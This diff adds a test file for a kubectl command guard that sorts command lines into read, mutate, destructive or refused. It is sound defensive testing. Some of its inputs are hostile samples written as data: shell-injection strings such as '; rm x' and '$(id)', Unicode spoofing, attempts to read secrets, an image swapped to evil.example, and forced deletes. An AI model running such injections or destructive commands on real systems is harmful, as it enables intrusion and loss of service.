@@ -1,0 +1,335 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { commandLine } from '../../src/core/command/command-line.ts';
+import { parseArgv, parseCommand } from '../../src/core/command/parse.ts';
+import { KINDS, resolveKind } from '../../src/core/kinds.ts';
+
+type Case = { readonly input: string; readonly expect: string };
+const corpus = (name: string): readonly Case[] =>
+  readFileSync(join(import.meta.dirname, '../fixtures/guard', `${name}.jsonl`), 'utf8')
+    .trim()
+    .split('\n')
+    .map((line) => JSON.parse(line) as Case);
+
+function codeOf(line: string): string {
+  const parsed = parseCommand(line);
+  return parsed.verdict === 'refuse' ? parsed.code : parsed.verdict;
+}
+
+/** Verbs that the registry does not have yet; the list shrinks when one is added, and only then. */
+const NOT_YET: { readonly [line: string]: string } = {
+  'kubectl auth can-i patch deployments -n web': 'unknown_verb',
+  'kubectl rollout pause deployment/web -n web': 'unknown_verb',
+  'kubectl uncordon n1': 'unknown_verb',
+  'kubectl set resources deployment/web -c app --limits=memory=512Mi -n web': 'unknown_verb',
+  'kubectl patch hpa web -n web --type=merge -p {"spec":{"maxReplicas":12}}': 'unknown_verb',
+  'kubectl delete job backfill-1 -n web': 'kind_not_for_verb',
+  // From the attacks, which the next version classifies instead of refusing:
+  'kubectl patch deployment web -n web --subresource=scale --type=merge -p {"spec":{"replicas":0}}':
+    'unknown_verb',
+  'kubectl set image deployment/web web=evil.example/x:1 -n web': 'unknown_verb',
+};
+/** The grammar takes it; that the namespace is protected is said by the rule for that (see guard.test.ts). */
+const PROTECTED = 'kubectl delete pod web-0 -n kube-system';
+
+describe('the corpora', () => {
+  const cases = [...corpus('legit'), ...corpus('attacks')].filter(({ input }) => input !== PROTECTED);
+
+  it.each(cases.filter(({ input }) => !(input in NOT_YET)))(
+    'gives $expect for $input',
+    ({ input, expect: verdict }) => {
+      expect(parseCommand(input).verdict).toBe(verdict);
+    },
+  );
+
+  it('refuses, of what is to be accepted, exactly what is listed as not there yet, with that code', () => {
+    const refused = cases.filter(
+      ({ input, expect: verdict }) => verdict !== 'refuse' && parseCommand(input).verdict === 'refuse',
+    );
+    expect(Object.fromEntries(refused.map(({ input }) => [input, codeOf(input)]))).toEqual(NOT_YET);
+  });
+
+  it('gives every refusal a sentence', () => {
+    for (const { input } of cases) expect(parseCommand(input).reason).toMatch(/\w+ \w+/);
+  });
+});
+
+describe('words', () => {
+  it.each([
+    ['kubectl get pods -n web; rm x', 'shell_metacharacter', 24],
+    ['kubectl get pods -n web | sh', 'shell_metacharacter', 25],
+    ['kubectl get pods "$(id)"', 'shell_metacharacter', 19],
+    ["kubectl get pods -l 'a", 'unbalanced_quote', 21],
+    ['kubectl get pods\tweb', 'control_character', 17],
+    ['kubectl get pods -n web\r', 'control_character', 24],
+    ['kubectl get p\u043Eds -n web', 'non_ascii', 14],
+    ['kubectl get pods -n web\u200b', 'non_ascii', 24],
+    ['kubectl get pods -n \u202eweb', 'non_ascii', 21],
+    [`kubectl get pods -n web ${' '.repeat(4096)}`, 'too_long', 1],
+    ["kubectl get pods '' -n web", 'empty_word', 18],
+    ['', 'empty', 1],
+    ['   ', 'empty', 1],
+  ])('refuses %j with %s', (line, code, column) => {
+    expect(parseCommand(line)).toMatchObject({ verdict: 'refuse', code, column });
+  });
+
+  it('takes quotes as a shell does', () => {
+    expect(parseCommand(`kubectl get pods -n 'we'"b" -l 'tier in (a, b)'`)).toMatchObject({
+      operation: { namespace: 'web', selector: 'tier in (a, b)' },
+    });
+  });
+
+  it('takes the same words when they are apart already, where a metacharacter is only a wrong character', () => {
+    const parsed = parseCommand('kubectl get pods -n web -l app=web');
+    expect(parseArgv(['kubectl', 'get', 'pods', '-n', 'web', '-l', 'app=web'])).toEqual(parsed);
+    expect(parseArgv(['kubectl', 'get', 'pods', '-n', 'web; id'])).toMatchObject({ code: 'bad_value' });
+    expect(parseArgv(['kubectl', 'get', 'pods', '-n', 'web\n'])).toMatchObject({ code: 'control_character' });
+    expect(parseArgv(['kubectl', 'get', ...Array.from({ length: 400 }, () => 'some-names')])).toMatchObject({
+      code: 'too_long',
+    });
+  });
+
+  it.each([
+    '/usr/bin/kubectl get pods -n web',
+    'KUBECTL get pods -n web',
+    'k get pods -n web',
+    'oc get pods -n web',
+  ])('takes no other word for kubectl: %s', (line) => {
+    expect(codeOf(line)).toBe('not_kubectl');
+  });
+});
+
+describe('flags', () => {
+  it.each([
+    ['kubectl get pods -n web -n web', 'repeated_flag'],
+    ['kubectl get pods -n web --namespace=web', 'repeated_flag'],
+    ['kubectl -n web get pods --namespace=kube-system', 'repeated_flag'],
+    ['kubectl get pods -n', 'missing_value'],
+    ['kubectl get pods -n -A', 'flag_like_value'],
+    ['kubectl get pods --namespace=-A', 'flag_like_value'],
+    ['kubectl get pods -n=', 'bad_value'],
+    ['kubectl get pods -nweb', 'short_flag_cluster'],
+    ['kubectl get pods -Aw', 'short_flag_cluster'],
+    ['kubectl get pods -- web -n web', 'double_dash'],
+    ['kubectl get pods - -n web', 'unknown_flag'],
+    ['kubectl get pods --all_namespaces', 'unknown_flag'],
+    ['kubectl get pods --All-Namespaces', 'unknown_flag'],
+    ['kubectl get pods --constructor -n web', 'unknown_flag'],
+    ['kubectl get pods --previous -n web', 'unknown_flag'],
+    ['kubectl get pods --all-namespaces=yes', 'bad_value'],
+    ['kubectl get pods -A -n web', 'conflicting_flags'],
+    ['kubectl logs -f web-0 -n web', 'forbidden_flag'],
+    ['kubectl logs --follow web-0 -n web', 'unbounded'],
+    ['kubectl rollout status deployment/web -n web --watch=true', 'bad_value'],
+    ['kubectl delete pod web-0 -n web --force', 'forced'],
+    ['kubectl delete pod web-0 -n web --grace-period=0', 'forced'],
+    ['kubectl delete pod --all -n web', 'bulk'],
+    ['kubectl delete pod -l app=web -n web', 'unknown_flag'],
+    ['kubectl scale deployment -l app=web --replicas=1 -n web', 'unknown_flag'],
+    ['kubectl get pods --request-timeout=0 -n web', 'forbidden_flag'],
+  ])('refuses %s with %s', (line, code) => {
+    expect(codeOf(line)).toBe(code);
+  });
+
+  it('takes flags in any place and in each of the plain spellings', () => {
+    const parsed = parseCommand('kubectl get pods -n web -o wide -l app=web');
+    for (const line of [
+      'kubectl -n web get -o=wide --selector app=web pods',
+      'kubectl --namespace=web get pods --output=wide -l app=web',
+      'kubectl get --namespace web --all-namespaces=false pods -o wide -l=app=web',
+    ]) {
+      expect(parseCommand(line)).toEqual(parsed);
+    }
+  });
+});
+
+describe('kinds', () => {
+  it.each([
+    'deploy',
+    'deployment',
+    'deployments',
+    'Deployment',
+    'DEPLOY',
+    'deploy.apps',
+    'deployments.v1.apps',
+  ])('takes %s for a Deployment', (spelled) => {
+    const plain = parseCommand('kubectl get deployments web -n web');
+    expect(parseCommand(`kubectl get ${spelled}/web -n web`)).toEqual(plain);
+    expect(parseCommand(`kubectl get ${spelled} web -n web`)).toEqual(plain);
+  });
+
+  it.each([
+    ['secrets', 'kind_secret'],
+    ['Secret', 'kind_secret'],
+    ['secrets.v1.', 'kind_secret'],
+    ['secret.anything.example', 'kind_secret'],
+    ['pods,SECRETS', 'kind_secret'],
+    ['sa', 'kind_rbac'],
+    ['clusterroles.rbac.authorization.k8s.io', 'kind_rbac'],
+    ['mutatingwebhookconfigurations', 'kind_admission'],
+    ['crd', 'kind_crd'],
+    ['csr', 'kind_token'],
+    ['widgets.example.com', 'kind_unknown'],
+    ['all', 'kind_unknown'],
+    ['pods.metrics.k8s.io', 'kind_unknown'],
+    ['deploy.v1beta1.apps', 'kind_unknown'],
+    ['deploy.', 'kind_unknown'],
+    ['pods,', 'kind_unknown'],
+    ['__proto__', 'kind_unknown'],
+  ])('refuses %s with %s', (spelled, code) => {
+    expect(codeOf(`kubectl get ${spelled} -n web`)).toBe(code);
+    expect(codeOf(`kubectl describe ${spelled} -n web`)).toBe(code);
+  });
+
+  it('finds each kind by its kind, its plural and its full form, and no name twice', () => {
+    for (const kind of KINDS) {
+      for (const spelled of [kind.kind, kind.resource, `${kind.resource}.${kind.version}.${kind.group}`]) {
+        expect(resolveKind(spelled)).toEqual({ status: 'known', kind });
+      }
+    }
+    expect(new Set(KINDS.map((kind) => `${kind.group}/${kind.resource}`)).size).toBe(KINDS.length);
+  });
+});
+
+describe('where and what', () => {
+  it.each([
+    ['kubectl get pods', 'namespace_required'],
+    ['kubectl get nodes,pods', 'namespace_required'],
+    ['kubectl logs web-0', 'namespace_required'],
+    ['kubectl top pods', 'namespace_required'],
+    ['kubectl events', 'namespace_required'],
+    ['kubectl rollout undo deployment/web', 'namespace_required'],
+    ['kubectl scale deployment/web --replicas=2', 'namespace_required'],
+    ['kubectl delete pod web-0', 'namespace_required'],
+    ['kubectl delete pod web-0 -A', 'unknown_flag'],
+    ['kubectl get pods web-0 -A', 'conflicting_flags'],
+    ['kubectl get pods web-0 -l app=web -n web', 'conflicting_flags'],
+    ['kubectl get pod/web-0 deploy/web -n web', 'mixed_kinds'],
+    ['kubectl get pods/web-0/log -n web', 'bad_value'],
+    ['kubectl get -n web', 'kind_required'],
+    ['kubectl get pods -n Web', 'bad_value'],
+    ['kubectl get pods web_0 -n web', 'bad_value'],
+    [`kubectl get pods -n ${'a'.repeat(64)}`, 'bad_value'],
+    ['kubectl get pods -o jsonpath={.items} -n web', 'bad_value'],
+    ['kubectl get pods -o name --no-headers -n web', 'conflicting_flags'],
+    ['kubectl describe pods,nodes -n web', 'mixed_kinds'],
+    ['kubectl describe pods a b -n web', 'too_many_names'],
+    ['kubectl logs -n web', 'name_required'],
+    ['kubectl logs web-0 app -n web', 'unexpected_word'],
+    ['kubectl logs svc/web -n web', 'kind_not_for_verb'],
+    ['kubectl logs web-0 -n web --tail=-1', 'flag_like_value'],
+    ['kubectl logs web-0 -n web --tail=0x10', 'bad_value'],
+    ['kubectl logs web-0 -n web --tail=010', 'bad_value'],
+    ['kubectl logs web-0 -n web --tail=5001', 'bad_value'],
+    ['kubectl logs web-0 -n web --since=1.5h', 'bad_value'],
+    ['kubectl logs web-0 -n web --since=0s', 'bad_value'],
+    ['kubectl logs web-0 -n web -c app --all-containers', 'conflicting_flags'],
+    ['kubectl top', 'kind_required'],
+    ['kubectl top secrets -n web', 'kind_required'],
+    ['kubectl top nodes --containers', 'conflicting_flags'],
+    ['kubectl events --for=web-0 -n web', 'bad_value'],
+    ['kubectl events --for=secret/db -n web', 'kind_secret'],
+    ['kubectl events --types=Bad -n web', 'bad_value'],
+    ['kubectl rollout', 'unknown_verb'],
+    ['kubectl rollout -n web undo deployment/web', 'unknown_verb'],
+    ['kubectl rollout undo deployment -n web', 'name_required'],
+    ['kubectl rollout undo deployment a b -n web', 'too_many_names'],
+    ['kubectl rollout undo pod/web-0 -n web', 'kind_not_for_verb'],
+    ['kubectl rollout undo deployment/web -n web --to-revision=0', 'bad_value'],
+    ['kubectl scale rs/web --replicas=2 -n web', 'kind_not_for_verb'],
+    ['kubectl scale deployment/web -n web', 'replicas_required'],
+    ['kubectl scale deployment/web --replicas=-1 -n web', 'flag_like_value'],
+    ['kubectl delete pod -n web', 'name_required'],
+    ['kubectl delete pod web-0 web-1 -n web', 'too_many_names'],
+    ['kubectl delete pod,deployment web -n web', 'mixed_kinds'],
+    ['kubectl delete deployment web -n web', 'kind_not_for_verb'],
+    ['kubectl exec web-0 -n web', 'forbidden_verb'],
+    ['kubectl Get pods -n web', 'unknown_verb'],
+    ['kubectl help', 'unknown_verb'],
+    ['kubectl constructor', 'unknown_verb'],
+  ])('refuses %s with %s', (line, code) => {
+    expect(codeOf(line)).toBe(code);
+  });
+
+  it.each<[string, 'read' | 'mutate' | 'destructive', object]>([
+    ['kubectl get nodes -n web', 'read', { namespace: null }],
+    ['kubectl get pods -A', 'read', { namespace: null }],
+    ['kubectl get pods a b -n web', 'read', { names: ['a', 'b'] }],
+    ['kubectl get pod/a pods/b -n web', 'read', { names: ['a', 'b'] }],
+    [
+      'kubectl get ev -n web --field-selector involvedObject.name=web-0,type!=Normal',
+      'read',
+      { output: 'table' },
+    ],
+    ['kubectl logs web-0 -n web', 'read', { tail: 200, sinceSeconds: null, previous: false }],
+    [
+      'kubectl logs -l app=web --all-containers -n web --since=1h30m',
+      'read',
+      { target: null, sinceSeconds: 5400 },
+    ],
+    ['kubectl logs web-0 -p -n web', 'read', { previous: true }],
+    ['kubectl events -n web --for pod/web-0 --types=warning', 'read', { types: ['Warning'] }],
+    ['kubectl top node n1', 'read', { what: 'nodes', name: 'n1', namespace: null }],
+    ['kubectl rollout status sts/db -n web --watch=false', 'read', { name: 'db' }],
+    ['kubectl rollout undo deployment web -n web', 'mutate', { toRevision: null }],
+    ['kubectl scale deployment/web --replicas=1 -n web', 'mutate', { replicas: 1, currentReplicas: null }],
+    ['kubectl scale --replicas=0 --current-replicas=1 sts/db -n web', 'destructive', { replicas: 0 }],
+    ['kubectl delete po/web-0 -n web', 'destructive', { name: 'web-0', namespace: 'web' }],
+  ])('takes %s as %s', (line, verdict, operation) => {
+    expect(parseCommand(line)).toMatchObject({ verdict, operation });
+  });
+
+  it('writes the short forms out', () => {
+    const lines = [
+      [
+        "kubectl get po -l 'tier in (a,b)' -A -o wide",
+        "kubectl get pods -A '--selector=tier in (a,b)' -o wide",
+      ],
+      [
+        'kubectl logs deploy/web -n web --since=15m',
+        'kubectl logs deployment/web -n web --tail=200 --since=900s',
+      ],
+      ['kubectl scale --replicas=4 sts db -n web', 'kubectl scale statefulset/db -n web --replicas=4'],
+    ];
+    for (const [line = '', written] of lines) {
+      const parsed = parseCommand(line);
+      expect(parsed.verdict === 'refuse' ? parsed : commandLine(parsed.operation)).toBe(written);
+    }
+  });
+});
+
+describe('selectors', () => {
+  it.each([
+    ['-l', 'app=web,tier!=db'],
+    ['-l', 'app==web'],
+    ['-l', '!app'],
+    ['-l', 'app=, tier'],
+    ['-l', 'app.kubernetes.io/name=web'],
+    ['-l', 'tier notin (a,b),app'],
+    ['--field-selector', 'status.phase!=Running,spec.nodeName='],
+    ['--field-selector', 'metadata.name==web-0'],
+  ])('takes %s %s', (flag, value) => {
+    expect(parseArgv(['kubectl', 'get', 'pods', '-n', 'web', flag, value]).verdict).toBe('read');
+  });
+
+  it.each([
+    ['-l', ','],
+    ['-l', 'app=web,'],
+    ['-l', 'app=a=b'],
+    ['-l', 'app in a,b'],
+    ['-l', 'app in (a,(b))'],
+    ['-l', 'app in (a)) or x'],
+    ['-l', 'app=a b'],
+    ['-l', '/name=web'],
+    ['-l', 'a/b/c=web'],
+    ['-l', `app=${'x'.repeat(64)}`],
+    ['--field-selector', ''],
+    ['--field-selector', 'data.password=x'],
+    ['--field-selector', 'spec.nodeName=a/b'],
+  ])('refuses %s %s', (flag, value) => {
+    expect(parseArgv(['kubectl', 'get', 'pods', '-n', 'web', flag, value])).toMatchObject({
+      code: 'bad_value',
+    });
+  });
+});
